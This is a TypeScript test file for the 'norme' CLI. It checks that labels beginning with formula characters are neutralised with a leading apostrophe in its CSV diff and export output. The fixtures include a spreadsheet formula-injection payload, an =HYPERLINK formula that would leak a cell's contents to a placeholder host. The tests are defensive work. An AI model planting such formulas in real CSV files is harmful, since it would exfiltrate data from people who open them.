/**
 * CSV formula injection (issue #22): a label of the registry that starts with `=`, `+`, `-`, `@`,
 * a tab or a CR is written neutralised (prefixed with `'`) in every CSV: `norme diff --format csv`
 * (same function as the site's diff downloads and the compare page) and `norme export --format csv`.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/core/index.ts';
import { FIXTURES, runNorme } from '../helpers/fixture.ts';

const HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")';
let root: string;

/** demo/V1 (the diff fixtures' registry) and demo/V2, a copy whose labels are formulas. */
beforeAll(() => {
  root = mkdtempSync(path.join(tmpdir(), 'norme-csv-'));
  cpSync(path.join(FIXTURES, 'diff/_common'), root, { recursive: true });
  const v1 = path.join(root, 'norm/demo/V1');
  const v2 = path.join(root, 'norm/demo/V2');
  cpSync(v1, v2, { recursive: true });
  const edit = (file: string, from: string, to: string) => {
    const text = readFileSync(file, 'utf8');
    if (!text.includes(from)) throw new Error(`${from} absent de ${file}`);
    writeFileSync(file, text.replace(from, to));
  };
  edit(path.join(v2, 'version.yaml'), 'id: V1', 'id: V2');
  edit(path.join(v2, 'version.yaml'), 'previous: null', 'previous: V1');
  edit(path.join(v2, 'datatypes/DSN_NatureContrat.yaml'), 'label: Contrat de travail à durée déterminée de droit privé', `label: '${HYPERLINK}'`);
  edit(path.join(v2, 'blocks/S21.G00.40.yaml'), 'name: Nature du contrat', 'name: "@SOMME(1+1)"');
  edit(path.join(v2, 'blocks/S21.G00.40.yaml'), 'name: Contrat\n', 'name: "-2+3"\n');
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('CSV : aucune cellule ne commence une formule', () => {
  it('norme diff --format csv : libellés « =HYPERLINK( », « @ », « - » neutralisés', async () => {
    const r = await runNorme(['diff', 'demo/V1', 'demo/V2', '--format', 'csv'], root);
    expect(r.err).toBe('');
    const lines = r.out.split('\r\n');
    const cells = (rule: string) => lines.find((l) => l.split(';')[1] === rule);
    expect(cells('code-value-relabelled')).toBe(
      'à examiner;code-value-relabelled;code-value;DSN_NatureContrat#02;;;"Code `02` de `DSN_NatureContrat` : libellé « Contrat de travail à durée déterminée de droit privé » → « =HYPERLINK(""https://exemple.invalid/?d=""&A1;""Cliquez"") »";Contrat de travail à durée déterminée de droit privé;"\'=HYPERLINK(""https://exemple.invalid/?d=""&A1;""Cliquez"")";S21.G00.40.007;',
    );
    expect(cells('rubrique-name-changed')).toBe(
      "rédactionnel;rubrique-name-changed;rubrique;S21.G00.40.007;S21.G00.40;'-2+3;Libellé de la rubrique `S21.G00.40.007` : « Nature du contrat » → « @SOMME(1+1) »;Nature du contrat;'@SOMME(1+1);;",
    );
    // No cell of the whole file starts a formula.
    for (const l of lines.slice(1)) expect(l).not.toMatch(/(^|;)"?\s*[=+\-@]/);
  });

  it('norme export --format csv : libellé de rubrique neutralisé', async () => {
    const r = await runNorme(['export', 'demo/V2', '--format', 'csv'], root);
    expect(r.out.split('\r\n').find((l) => l.includes('S21.G00.40.007'))).toMatch(/^S21\.G00\.40;'-2\+3;S21\.G00\.40\.007;'@SOMME\(1\+1\);/);
  });

  it.each([
    ['=1+1', "'=1+1"], ['+33 1 23', "'+33 1 23"], ['-', "'-"], ['-5', "'-5"], ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"], ['\r=1', '"\'\r=1"'], [' =1', "' =1"], ['＝1', "'＝1"],
    ['Contrat', 'Contrat'], ['a=b', 'a=b'], ['', ''], [-5, '-5'], [12, '12'], [undefined, ''],
  ] as const)('csvCell(%j) → %s', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});
